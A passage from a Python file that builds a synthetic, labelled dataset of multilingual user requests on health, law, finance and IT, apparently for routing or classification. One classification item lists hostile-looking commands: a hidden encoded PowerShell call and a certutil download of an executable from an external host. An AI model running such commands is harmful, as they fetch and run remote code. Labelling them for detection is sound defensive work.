La semaine dernière, un prospect a demandé par e-mail qu'on supprime toutes ses données et qu'on lui dise d'où on les tenait. Le commercial a répondu « on ne garde rien », ce qui est faux.

J'aimerais comprendre quels sont nos risques concrets et par quoi commencer pour nous mettre en conformité, dans un ordre réaliste pour une petite équipe. Et pouvez-vous rédiger une réponse correcte à ce prospect, qui reconnaît l'erreur et explique ce que nous allons faire ?""",
    "L08": """Guten Tag,

ich bin Teamleiterin in einer Pflegeeinrichtung mit 40 Bewohnerinnen und Bewohnern. Seit einigen Wochen beobachten wir bei einer Bewohnerin (86 Jahre, leichte Demenz) nachts starke Unruhe: Sie steht mehrfach auf, sucht ihre Handtasche und ist morgens sehr müde. Der Hausarzt hat vor zehn Tagen ein neues Medikament gegen Blasenschwäche angesetzt, Oxybutynin 5 mg zweimal täglich. Davor war sie nachts deutlich ruhiger. Sie trinkt tagsüber wenig und hatte letzte Woche einmal Fieber von 37,9, das aber von selbst wieder verschwunden ist.

Die Kolleginnen im Nachtdienst wünschen sich ein Beruhigungsmittel, ich bin da skeptisch.

Kann das neue Medikament die Unruhe erklären, und welche anderen Ursachen sollten wir ausschließen? Bitte formulieren Sie außerdem eine kurze, sachliche Nachricht an den Hausarzt, in der wir unsere Beobachtungen schildern und um Überprüfung der Medikation bitten.""",
    "L09": """Hola. Tengo una tienda online pequeña de cerámica hecha a mano y vendo sobre todo a clientes de España y Francia. Hace un mes cambié de pasarela de pago porque la antigua cobraba mucho. Desde entonces he recibido cuatro pedidos raros: siempre de clientes nuevos, importes altos (entre 400 y 900 euros), direcciones de envío en países donde nunca vendo y correos electrónicos con nombres aleatorios. Dos de esos pagos ya me los han devuelto como "contracargo" y he perdido la mercancía y el dinero.

No sé si es normal o si me están estafando, y tampoco sé qué puedo configurar en la nueva pasarela para protegerme sin perder ventas buenas.

¿Me explicas qué tipo de fraude parece esto y qué medidas concretas puedo tomar, por orden de importancia? Y dime también cuánto he perdido en total si los dos contracargos eran de 640 y 875 euros y cada uno me costó 15 euros de comisión.""",
    "L10": """Our hospital ward switched from paper to an electronic prescribing system three months ago. Overall it's better, but the nurses keep telling me about "alert fatigue": every time they give paracetamol to a patient on warfarin, or potassium to someone on an ACE inhibitor, the system shows a pop-up warning that they have to click through, even when the doctor already reviewed it. On a busy night a nurse clicks maybe 60 of these.

Last week a nurse clicked through a warning that was actually important (a double dose of enoxaparin), and the patient had a minor bleed. Thankfully nothing serious, but it was reported as an incident.

I'm the ward manager and I need to bring a proposal to the medication safety committee next month. Can you help me think through why alert fatigue happens and which changes would reduce it without removing the important warnings? I need a structured argument, not a list of generic tips.""",
    "L11": """Hi! Sorry for long message. I'm a freelance translator based in Lisbon, I work mostly for agencies in the US and UK. One US client has always paid me by bank transfer, but now their new finance person asks me to fill a W-8BEN form and also says they will withhold 30% tax unless I give them an ITIN or something similar. I never had this before in five years.

I'm tax resident in Portugal, I pay my taxes here as a self-employed person (recibos verdes), and I don't have any US address or US bank account. The client pays me around 1,400 USD per month.

I'm quite confused about what this form is and if I will really lose 30%. Can you explain what the W-8BEN is for and whether the tax treaty between Portugal and the US changes anything? Also, if they did withhold 30% for one year, how much money would that be?""",
    "L12": """We run a 25-person software agency in Rotterdam. Last year we built a booking platform for a client under a fixed-price contract of 180k. The contract says "Supplier warrants that the Software will be free from material defects for 90 days after acceptance." Acceptance was signed in March.

Now, in November, the client says the system crashes every Monday morning when they have peak bookings, and they want us to fix it for free, plus they threaten to claim damages for lost bookings. We looked into it: the crashes come from a traffic level five times higher than the volumes in the specification, and their own IT team changed the database server to a smaller one in August.

We want to keep the relationship, but we can't work for free forever. Do we have to fix it for free under the contract, and what are our strongest arguments? Then draft a firm but friendly email to their director proposing a paid performance upgrade.""",
    "L13": """I have been working as a data analyst for six years and I am thinking about going into data engineering. My current team is very nice, but the work is mostly dashboards and one-off Excel reports for managers, and I feel I'm not learning anymore. At home I've started learning Spark and Airflow in the evenings.

My company offered me an internal move to the platform team, but with the same salary and a very busy on-call rotation. Another company offered me a junior data engineer role with 8% more money, fully remote, but it is a young startup with 18 months of runway.

I have a mortgage and a small kid, so stability matters, but I also don't want to stay stuck for another six years. My partner says take the money, my manager says stay and grow internally.

How would you weigh these two options? Please give me a clear recommendation at the end, not just pros and cons.""",
    "L14": """Ciao, scrivo per conto di mia madre, che ha 68 anni e vive a Bologna. Ha ricevuto ieri un SMS che sembrava di Poste Italiane: diceva che il suo conto era bloccato e che doveva chiamare un numero. Ha chiamato, un signore molto gentile le ha detto di essere dell'ufficio antifrode e le ha chiesto i codici che le arrivavano via SMS "per annullare un bonifico sospetto". Lei gliene ha dati tre.

Stamattina ha visto che dal conto sono usciti due bonifici, uno da 1.900 euro e uno da 2.450 euro, verso un IBAN che non conosce. È disperata e si vergogna molto.

Cosa dobbiamo fare subito, in ordine, per provare a bloccare o recuperare i soldi? E puoi scrivere un breve messaggio che possa mandare a tutte le sue amiche del circolo per avvisarle di questa truffa, senza spaventarle troppo?""",
    "L15": """Context: I lead a team of nine customer support agents. We handle around 1,200 tickets per week, mostly by email, some chat. Over the last quarter our CSAT dropped from 4.4 to 3.9, first response time went from 3 hours to 9 hours, and two experienced agents left.

My director thinks the problem is people not working hard enough and wants me to introduce a daily ticket quota per agent. I think the real causes are the new product release (which doubled "how do I" questions), a broken macro library and the fact that we lost our best people and replaced them with trainees.

I have a meeting with the director on Friday and I need to come with a clear argument supported by data, not feelings.

Can you help me structure the argument, including which numbers I should pull before Friday? And suggest two or three alternatives to the quota that would show I'm taking the problem seriously.""",
    "L16": """Olá! Trabalho como enfermeira numa clínica de medicina geral em Coimbra e estou a preparar uma sessão de 20 minutos para um grupo de diabéticos tipo 2 recém-diagnosticados, a maioria com mais de 60 anos e pouca escolaridade. Muitos acreditam que a diabetes "só se trata com comprimidos" e que podem comer de tudo se tomarem a metformina.

Quero explicar, com palavras muito simples, o que é a hemoglobina glicada, porque é importante caminhar todos os dias, como ler o rótulo de um alimento para ver o açúcar e quais são os sinais de hipoglicemia.

Podes escrever-me o texto de um folheto de uma página com estes quatro pontos, em português simples, com frases curtas? E depois faz-me uma versão resumida em três linhas para pôr num cartaz na sala de espera.""",
    "L17": """We're a 300-person company and our IT team has just finished the annual access review. The result is not great: 74 accounts belong to people who left the company (some more than a year ago), 31 service accounts have no known owner, and the finance shared mailbox is accessible to 60 people although only 8 work in finance. The CFO was shocked when she saw the report.

We have no identity governance tool, only Azure AD and a lot of spreadsheets. HR sends leaver emails to IT, but not always, and managers approve access requests without reading them.

I need to present a remediation plan to the leadership team next week. Can you propose a realistic 90-day plan with priorities, owners and quick wins first? Also list the three metrics we should report monthly so the board can see progress.""",
    "L18": """Hallo, ik ben 29 en ik heb sinds een half jaar last van mijn maag. Vooral na het eten, een branderig gevoel achter mijn borstbeen en soms een zure smaak in mijn mond als ik ga liggen. Ik werk in de horeca, dus ik eet vaak laat en snel, en ik drink veel koffie om wakker te blijven. Sinds een maand neem ik zelf omeprazol van de drogist, dat helpt wel, maar als ik stop komt het terug.

Mijn moeder had een maagzweer en ik ben een beetje bang dat het iets ergs is. Ik ben niet afgevallen en ik heb geen bloed gezien.

Wat kan dit zijn, en wanneer moet ik echt naar de huisarts? Is het erg om omeprazol lang zelf te blijven slikken?""",
    "L19": """Here is my situation. I bought a second-hand car from a dealer in Leeds three weeks ago for 9,400 pounds. The advert said "full service history, one owner". After one week the gearbox started making a noise and the garage I took it to said it needs a new clutch and the service book stamps look fake, and the car actually had three owners according to the logbook.

I called the dealer. First they said they would look at it, then they stopped answering my calls. I have the advert saved as a screenshot, the invoice, and the garage report with a quote of 1,350 for the repair.

I don't want to go to court if I can avoid it, but I also don't want to pay for their lies. What are my rights here, and is it better to ask for a repair, a partial refund or to reject the car? Then please draft a formal letter to the dealer that I can send by recorded delivery.""",
    "L20": """Hi there, quick background: I manage IT for a chain of five dental practices. Each practice has a small server for the X-ray software, and reception computers that staff share with one generic login (the password is on a sticky note, I know...). Patient records live in a cloud practice management system, but the X-ray images stay local.

Last month a dental practice near us got ransomware and was closed for a week. My boss now asks me for "a security improvement plan that doesn't cost a fortune" and doesn't annoy the dentists.

What are the biggest risks in our setup, in order? And what would you change first with a budget of around 15k for the year? Please be practical, not theory.""",
    "L21": """Bonjour, je suis responsable administratif dans une association culturelle à Nantes. Nous avons reçu une subvention de la région de 45 000 € pour un festival, et la convention dit que nous devons justifier les dépenses « au réel » avant le 30 juin, avec un bilan financier certifié par le président.

Notre problème : le festival a coûté 52 300 €, mais une partie des dépenses (environ 6 000 €) a été payée en espèces à des artistes sans facture, juste avec un reçu manuscrit. Le trésorier dit que ce n'est pas grave.

Est-ce que ces reçus posent un vrai risque pour la subvention, et que devrions-nous faire maintenant ? Calculez aussi quel pourcentage du coût total représentent ces 6 000 €.""",
    "L22": """Some context first: I'm a PhD student in biology, and I write a lot of Python scripts to analyse microscopy images. My code works, but it's a mess: one 1,800-line notebook, global variables everywhere, copy-pasted cells with small changes for each experiment, and file paths hard-coded to my laptop. My supervisor wants another student to reuse my pipeline next semester, and honestly I'm embarrassed to show it.

I don't have a software background and I have about two weeks I can spend on cleaning it up before I go back to lab work.

How should I restructure this so that someone else can run it, and in what order should I do things in those two weeks? Please also show me a small example of how one notebook cell that loads images and applies a threshold should look as a proper function with a docstring.""",
    "L23": """I'm the finance lead of a 70-person SaaS company. We invoice customers in EUR, GBP and USD, but almost all our costs (salaries, office) are in EUR. In the last six months the dollar moved a lot and our monthly USD revenue of about 210k translated into very different EUR numbers, which made our board reporting look chaotic. Our CEO asked me if we should "do something about currency".

We don't have a treasury team and our bank offered us forwards with a minimum of 100k per contract. I'm not sure it's worth the complexity for a company our size.

Can you explain the main options we have, including just doing nothing or invoicing everyone in EUR, and recommend one for a company like ours? Also, if EUR/USD moves from 1.08 to 1.12, how much less EUR do we get per month from the 210k?""",
    "L24": """Good afternoon. I am a Korean engineer working in Singapore on an Employment Pass. My company was sold last month, and the new owner gave us new contracts. In the new contract the notice period is 3 months instead of 1 month, there is a non-compete for 12 months in "all of Southeast Asia", and the annual bonus is now "discretionary" instead of the fixed one month salary that was in my old contract.

HR says we must sign before the end of the week, otherwise they will "assume we resign". I like my job but I don't want to sign something that traps me.

Is this legal in Singapore, and can they really treat refusing as resignation? And could you summarise the three changes as a short table (old vs new) so I can bring it to the union meeting?""",
    "L25": """I run a small bakery with two shops and 14 staff. Our flour supplier increased prices by 22% this year, energy went up as well, and my margin on bread is almost gone. I have been avoiding raising prices because we are in a neighbourhood with many older customers and I'm afraid to lose them.

A typical loaf costs me 1.45 to make (ingredients, energy, labour) and I sell it for 2.60. We sell about 900 loaves per week across both shops. Pastries have a much better margin.

Should I raise bread prices, and by how much, or is it better to keep bread cheap and push pastries more? And write me a short, friendly notice for the shop window explaining the price change if I do it.""",
    "L26": """Hey, need a second opinion. I'm the only DevOps person in a startup of 20. Our developers push directly to main, deploy from their laptops with a shared AWS access key that lives in a .env file in the repo (private repo, but still), and the production database is reachable from the internet because "it's easier to debug". Nobody wants to slow down, we ship several times a day and the founders like it that way.

I know this is bad, but I need to convince people without sounding like the paranoid guy who blocks everything.

Which of these problems should I fix first and why? Then give me a short message for the founders' Slack channel that explains the top risk in business terms, not jargon.""",
    "L27": """Hola, soy médica de familia en un centro de salud de Valencia. Tengo una paciente de 52 años con hipotiroidismo, tratada con levotiroxina 100 mcg desde hace años, siempre estable. En la última analítica la TSH ha salido en 9,8 (antes 2,1). Ella dice que toma la pastilla todos los días, pero al preguntarle más, me cuenta que desde hace dos meses la toma con el desayuno, junto con un suplemento de calcio y hierro que le recomendó una amiga por la menopausia. No tiene otros síntomas, el peso es estable y no ha cambiado de marca de levotiroxina.

¿Puede explicar esta interacción la subida de la TSH, y qué le recomendarías antes de subir la dosis? También escríbeme unas instrucciones breves y claras para la paciente sobre cómo tomar la levotiroxina.""",
    "L28": """I have just become the manager of a team of six accountants after my manager left suddenly. Two of them applied for the same position and didn't get it, one is openly annoyed and comes late to meetings, the other one is very polite but has stopped volunteering for anything. The rest of the team seems fine but nervous about the change.

We have the year-end close in five weeks, which is the busiest period, and I can't afford to lose anybody now. I've never managed people before, I was a senior accountant until last month.

How should I approach the two colleagues who wanted my job, and what should I do in my first two weeks with the whole team? Please also write a short message I can send to the team to set up one-to-one meetings without it sounding like a formal HR process.""",
    "L29": """Our company is opening a branch in Germany next year and will hire about 15 people there. At home (Ireland) we use a simple employment contract template and most policies are in our staff handbook. Our HR manager says we can just translate the Irish contract into German and use it. Our German accountant laughed at this idea but didn't explain why.

We don't have a German lawyer yet and we're trying to understand what's different before we spend money on one. Topics we worry about: probation periods, notice periods, works councils, working time records and holidays.

Can you explain the main differences we should expect in German employment law for these topics? And translate this sentence from our template into German so I can show the accountant what we mean: "Either party may terminate this contract by giving one month's written notice.\"""",
    "L30": """Hi. I'm a teacher and I'm organising a school trip to Rome for 42 students and 5 teachers, four days in April. The travel agency gave me two offers. Offer A: flights plus a hostel near Termini, 389 per person, breakfast only. Offer B: overnight coach plus a hotel outside the centre with half board, 342 per person, but the coach takes 22 hours each way.

Parents are worried about cost, the head teacher is worried about safety, and the students obviously want to fly. We also need travel insurance, which is 18 per person for both options.

What is the total cost of each offer for the whole group including insurance? And which one would you choose, taking safety, time and cost into account?""",
    "L31": """Sehr geehrte Damen und Herren,

unser Unternehmen (Maschinenbau, ca. 250 Mitarbeitende) hat letzte Woche einen Penetrationstest durchführen lassen. Der Bericht enthält 38 Befunde, davon 3 kritisch: ein veralteter VPN-Server mit bekannter Schwachstelle, ein Webportal für Lieferanten mit SQL-Injection und Standardpasswörter auf mehreren Industrie-Steuerungen in der Produktion. Die Geschäftsführung möchte bis Freitag wissen, was das konkret für uns bedeutet.

Die Produktion läuft im Dreischichtbetrieb, und ein Stillstand der Anlagen kostet uns pro Stunde etwa 20.000 Euro. Das Lieferantenportal wird von rund 300 externen Firmen genutzt, der VPN-Server von allen Außendienstmitarbeitern. Wir haben zwei Administratoren, die neben dem Tagesgeschäft an den Befunden arbeiten können.

Ich bin IT-Leiter, aber kein Sicherheitsexperte. Bitte erklären Sie mir, welche der drei kritischen Befunde am dringendsten ist und warum. Und formulieren Sie eine kurze Zusammenfassung für die Geschäftsführung, maximal eine halbe Seite, ohne Fachchinesisch.""",
    "L32": """I'm writing a short story for a competition (max 1,500 words, theme "borders"). My idea: an old customs officer on a tiny mountain border crossing between two countries that no longer check passports, because both joined the same union. He still comes to work every day, opens the booth, stamps nothing, and talks to the hikers who pass. One winter day a young woman arrives with no papers and a suitcase, and asks him to let her "cross back".

I have the beginning and the ending in my head but the middle is weak and I don't know how to make the reader feel his loneliness without just saying it.

Could you suggest how to structure the middle part, and write the first 200 words of the story in a quiet, melancholic tone so I can see the style?""",
}

LONG = r"""
reasoning f m c => Can you tell me how I should think about splitting this money between emergency fund, ETF and maybe Brazil? ;; math f l c calc => how much is six months of my rent plus a basic 900 euro living cost | {L01}
qa l l p => Can the employer reduce contract hours like this without her agreement? ;; draft l l p => please write a short, polite letter she can give to HR asking for the reason in writing and for her hours to be restored | {L02}
reasoning m m p | {L03}
reasoning s m i => What should I do first, in which order, in the next hour? ;; draft s l i => please write me a short email that I can send to all our clients to tell them not to open the link | {L04}
creative g m p | {L05}
reasoning f m i => What would you recommend and why? ;; math f l i calc => what does the accountant option cost us per year compared with the most expensive software plan? | {L06}
reasoning l m i => J'aimerais comprendre quels sont nos risques concrets et par quoi commencer pour nous mettre en conformité ;; draft l l i => pouvez-vous rédiger une réponse correcte à ce prospect | {L07}
reasoning m m c => Kann das neue Medikament die Unruhe erklären, und welche anderen Ursachen sollten wir ausschließen? ;; draft m l c => formulieren Sie außerdem eine kurze, sachliche Nachricht an den Hausarzt | {L08}
reasoning s m p => ¿Me explicas qué tipo de fraude parece esto y qué medidas concretas puedo tomar, por orden de importancia? ;; math f l p calc => dime también cuánto he perdido en total | {L09}
reasoning m h i | {L10}
qa f l p => Can you explain what the W-8BEN is for and whether the tax treaty between Portugal and the US changes anything? ;; math f l p calc => if they did withhold 30% for one year, how much money would that be? | {L11}
reasoning l m i => Do we have to fix it for free under the contract, and what are our strongest arguments? ;; draft l m i => draft a firm but friendly email to their director proposing a paid performance upgrade | {L12}
reasoning g m p | {L13}
reasoning s m p => Cosa dobbiamo fare subito, in ordine, per provare a bloccare o recuperare i soldi? ;; draft s l p => puoi scrivere un breve messaggio che possa mandare a tutte le sue amiche del circolo per avvisarle di questa truffa | {L14}
reasoning g h i => Can you help me structure the argument, including which numbers I should pull before Friday? ;; reasoning g m i => suggest two or three alternatives to the quota | {L15}
draft m m p => Podes escrever-me o texto de um folheto de uma página com estes quatro pontos ;; summarize m l p => faz-me uma versão resumida em três linhas para pôr num cartaz na sala de espera | {L16}
reasoning s h i => Can you propose a realistic 90-day plan with priorities, owners and quick wins first? ;; reasoning s m i => list the three metrics we should report monthly | {L17}
reasoning m m p => Wat kan dit zijn, en wanneer moet ik echt naar de huisarts? ;; qa m l p => Is het erg om omeprazol lang zelf te blijven slikken? | {L18}
reasoning l m p => What are my rights here, and is it better to ask for a repair, a partial refund or to reject the car? ;; draft l m p => please draft a formal letter to the dealer | {L19}
reasoning s m i | {L20}
reasoning f m i => Est-ce que ces reçus posent un vrai risque pour la subvention, et que devrions-nous faire maintenant ? ;; math f l i calc => Calculez aussi quel pourcentage du coût total représentent ces 6 000 € | {L21}
reasoning g m p => How should I restructure this so that someone else can run it, and in what order should I do things in those two weeks? ;; code g l p => show me a small example of how one notebook cell that loads images and applies a threshold should look as a proper function with a docstring | {L22}
reasoning f m i => Can you explain the main options we have, including just doing nothing or invoicing everyone in EUR, and recommend one for a company like ours? ;; math f l p calc => if EUR/USD moves from 1.08 to 1.12, how much less EUR do we get per month from the 210k? | {L23}
reasoning l m p => Is this legal in Singapore, and can they really treat refusing as resignation? ;; summarize l l p => could you summarise the three changes as a short table (old vs new) | {L24}
reasoning f m i => Should I raise bread prices, and by how much, or is it better to keep bread cheap and push pastries more? ;; draft f l p => write me a short, friendly notice for the shop window explaining the price change | {L25}
reasoning s m i => Which of these problems should I fix first and why? ;; draft s l i => give me a short message for the founders' Slack channel that explains the top risk in business terms | {L26}
reasoning m m c => ¿Puede explicar esta interacción la subida de la TSH, y qué le recomendarías antes de subir la dosis? ;; draft m l p => escríbeme unas instrucciones breves y claras para la paciente sobre cómo tomar la levotiroxina | {L27}
reasoning g m i => How should I approach the two colleagues who wanted my job, and what should I do in my first two weeks with the whole team? ;; draft g l i => write a short message I can send to the team to set up one-to-one meetings | {L28}
qa l m p => Can you explain the main differences we should expect in German employment law for these topics? ;; translate l l p => translate this sentence from our template into German | {L29}
math g l p calc => What is the total cost of each offer for the whole group including insurance? ;; reasoning g m p => which one would you choose, taking safety, time and cost into account? | {L30}
reasoning s m i => welche der drei kritischen Befunde am dringendsten ist und warum ;; summarize s l i => formulieren Sie eine kurze Zusammenfassung für die Geschäftsführung | {L31}
reasoning g m p => Could you suggest how to structure the middle part ;; creative g m p => write the first 200 words of the story in a quiet, melancholic tone | {L32}
"""

EXTRA = r"""
sentiment m l p | How does this patient sound in her message to the practice, anxious, angry or calm? "I've now waited 6 weeks for my biopsy result and nobody calls me back. I can't sleep."
sentiment m l p | Welchen Ton hat dieses Feedback zur Notaufnahme? "Lange Wartezeit, aber die Pflegekräfte waren unglaublich geduldig mit meinem Vater."
sentiment f l p | was the customer happy with the mortgage advisor? "She explained everything twice without making me feel stupid. Rate could be better though."
sentiment l l p | What tone does the tenant use here? "I am formally notifying you, for the third time, that the heating has not worked since 2 December."
sentiment s l p | do people like the new MFA or hate it? "annoying at first but fine now" / "why do I need my phone for EVERYTHING" / "took 10 seconds, no problem"
chat g l p | ok you are right, my mistake
chat g l p | Bonjour ! Tu vas bien ?
chat g l p | haha nice one
chat g l p | Can we continue the conversation from before the break?
chat g l p | Goedemorgen! Ben je er?
chat g l p | Do you speak Portuguese? my english is a bit rusty
translate m l c | Translate into English for the cardiologist: "Paciente refere dor torácica em aperto há 2 dias, pior ao esforço, sem irradiação."
translate m l p | Please translate to Polish: "Take this medicine on an empty stomach, 30 minutes before breakfast."
translate f l p | Translate into English: "Le remboursement sera effectué sous 14 jours sur le moyen de paiement utilisé lors de l'achat."
creative g l p | a short motivational poem for the nurses on night shift, for the ward newsletter
creative g l p | Funny 4-line rhyme for the wall of my dentist's waiting room
qa m l p | What's the difference between a CT scan and an MRI, and which one uses radiation?
qa m l p | how many days after a tick bite can Lyme disease symptoms show up?
reasoning m m p | My 3-year-old maybe swallowed one of my vitamin D tablets 20 minutes ago. She's playing normally. Do we need to go to A&E?
classify m l p | Put each diagnosis in its ICD-10 chapter: "community-acquired pneumonia", "type 2 diabetes with neuropathy", "fracture of the left radius", "major depressive episode"
extract m l p | From this vaccine leaflet list age groups and number of doses: "Children 2-5 years: two doses 4 weeks apart. Adults 18-64: one dose. Over 65: one high-dose injection."
summarize m l c | Two sentences please: "Bed 4, 82M, post hip replacement day 2, pain controlled with oral morphine, mobilised with frame, catheter out this morning, not passed urine yet, bladder scan at 18:00."
draft m l p | Text for our clinic website: how to book a flu jab and who gets one for free.
math m l p calc | Prednisolone 0.5 mg/kg, patient weighs 64 kg, tablets are 5 mg. How many tablets per day?
code m l p | SQL: count patients per ward with an open fall-risk flag. patients(id, ward_id), flags(patient_id, type, closed_at)
qa m l p web | What are the current NHS recommendations for the autumn COVID booster?
extract m l c => extract the vital signs ;; classify m l c => give the NEWS2 risk band | extract the vital signs and give the NEWS2 risk band: "RR 24, SpO2 93% on air, BP 102/64, HR 112, temp 38.4, alert"
qa m l p | Warum soll man Antibiotika bis zum Ende nehmen, auch wenn es einem schon besser geht?
reasoning m m p | Mijn dochter (14) wil veganistisch eten. Waar moeten we op letten om tekorten te voorkomen?
summarize m l p | Riassumi in una frase: "I pazienti con insufficienza cardiaca trattati con dapagliflozin hanno avuto meno ricoveri (16% contro 21%) nel corso di 18 mesi."
extract m l c | Pull the allergies and reactions from the admission note: "Allergies: penicillin (rash), latex (itching), no known food allergies. {P11} reports codeine makes her vomit."
classify l l p | Which of these need the employee's consent under GDPR and which rely on another legal basis: payroll processing, staff photos on the website, CCTV in the car park, sharing sick-leave data with a client
extract l l p | Pull the parties, purchase price and completion date: "This Share Purchase Agreement is made between Halden Holdings B.V. and Corvo Capital S.à r.l.; the purchase price of EUR 4,200,000 is payable on Completion, scheduled for 30 September 2025."
draft l l p | Rédige une mise en demeure pour un client qui ne paie pas une facture de 4 800 € depuis 90 jours.
qa l l p | I'm from Romania and work in UK for a builder. Is verbal agreement enough to be his subcontractor, or I need a written contract?
reasoning l m p | A competitor registered a domain almost identical to our brand and shows ads to our customers. Can we force them to hand it over, and is it worth the cost?
summarize l l p | Vat in twee zinnen samen: "De verkoper staat er niet voor in dat het verkochte geschikt is voor een bepaald doel, tenzij dit uitdrukkelijk schriftelijk is overeengekomen."
qa l l p | max GDPR fine - is it based on turnover or on profit?
qa l l p | Wann verjährt ein Anspruch auf Mietminderung in Deutschland?
qa s l p | ¿Cómo funciona un ataque de fuerza bruta contra una contraseña?
classify s l p | malicious or benign? "powershell -nop -w hidden -enc JABjAD0A...", "git pull origin main", "certutil -urlcache -split -f hxxp://x-y[.]top/a.exe", "ping intranet.local"
draft s l i | Slack reminder: from Monday USB sticks are blocked on all company laptops, and here is how to ask for an exception.
reasoning s m p | Mi empresa quiere permitir el correo corporativo en los móviles personales. ¿Qué riesgos hay y qué controles mínimos pondrías?
extract s l p | List the hash, file name and host from this alert: "Blocked: invoice_0425.pdf.exe (SHA1 9c1185a5c5e9fc54612808977ee8f548b2258d31) on host LAPTOP-FIN-07"
code s l p | python script that checks a list of passwords against the Have I Been Pwned range API (k-anonymity, only the first 5 hash chars sent)
qa s l p | Wat is het verschil tussen een firewall en een virusscanner?
summarize s l i | One paragraph for the CISO: "Q2 phishing simulation: 1,140 emails sent, 9.2% clicked (down from 14%), 3.1% entered credentials, reporting rate up to 41%. Finance and sales remain highest-risk."
"""

_BLOCKS = (FINANCE, LEGAL, MEDICAL, SECURITY, GENERAL, FOREIGN, PII_ROWS, HARD_NEGATIVES,
           MULTI, LONG, EXTRA)  # fmt: skip


def rows() -> list[Row]:
    expand = Placeholders(_MAT, _V, inline=_LONG)
    return line_rows(_BLOCKS, prefix="diverse11", expand=expand)


def main() -> None:
    check_lookalikes(_HN)
    data = write_and_check(HERE / "train_diverse11.jsonl", rows(), scan_unmarked=True)
    print(f"  rows of 120+ words: {sum(len(r['text'].split()) >= 120 for r in data)}")


if __name__ == "__main__":
    main()
